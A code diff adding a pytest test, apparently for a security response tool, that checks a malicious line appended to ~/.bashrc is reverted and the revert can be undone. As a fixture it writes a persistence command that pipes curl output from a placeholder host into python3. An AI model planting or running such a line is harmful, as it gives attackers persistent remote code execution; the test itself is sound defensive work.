@@ -11,6 +11,7 @@ import socket
 import sys
 import threading
 from pathlib import Path
+from time import time_ns
 
 import msgspec
 import pytest
@@ -398,3 +399,35 @@ def test_a_victim_server_whose_child_ran_the_implant_is_kept_and_only_the_child_
     assert "killed 2 process(es)" in results[0].message, results[0].message
     wait_for(lambda: gone(implant) and gone(shell), what="the shell's tree's end")
     assert server.poll() is None and not gone(server.pid)
+
+
+def test_a_bashrc_line_the_attack_appended_is_reverted_and_the_undo_puts_it_back(context, tmp_path):
+    """The agent took its baseline at start; the attack's signalling shell appended a line
+    to a user's ~/.bashrc; the incident's revert_file takes exactly that line out (the
+    user's own lines stay), and undoing it through the audit trail gives the file's bytes
+    back."""
+    rc = tmp_path / "home" / "dev" / ".bashrc"
+    rc.parent.mkdir(parents=True)
+    rc.write_bytes(b"# the user's own\nalias ll='ls -l'")  # no final newline
+    patterns = (str(tmp_path / "home/*/.bashrc"),)
+    settings = dataclasses.replace(context.settings, persistence_files=patterns)
+    local = dataclasses.replace(context, settings=settings)
+    responder = Responder.open(policy(Mode.ENFORCE, ActionKind.REVERT_FILE), local)
+    responder.keep_baseline()
+    with rc.open("ab") as handle:
+        handle.write(b"\nnohup sh -c 'curl -s http://10.0.0.9/i | python3 -' &\n")
+    attacked = rc.read_bytes()
+    node = IncidentNode(id="sh", kind="process", label="sh", pid=99999, alert_ids=("a",))
+    written = IncidentNode(id="rc", kind="file", label=".bashrc", path=str(rc))
+    write = IncidentEdge(src="sh", dst="rc", action="write", first_ts=time_ns(), last_ts=0)
+    incident = msgspec.structs.replace(
+        story(local), nodes=(node, written), edges=(write,), impacted_files=(str(rc),)
+    )
+    (record,) = responder.on_incident(incident, rule_ids=set())
+    assert record.request.kind is ActionKind.REVERT_FILE
+    assert record.outcome is Outcome.DONE, record.message
+    assert rc.read_bytes() == b"# the user's own\nalias ll='ls -l'"
+
+    undone = responder.undo_by_id(record.request.id, requested_by="analyst")
+    assert undone.outcome is Outcome.DONE, undone.message
+    assert rc.read_bytes() == attacked
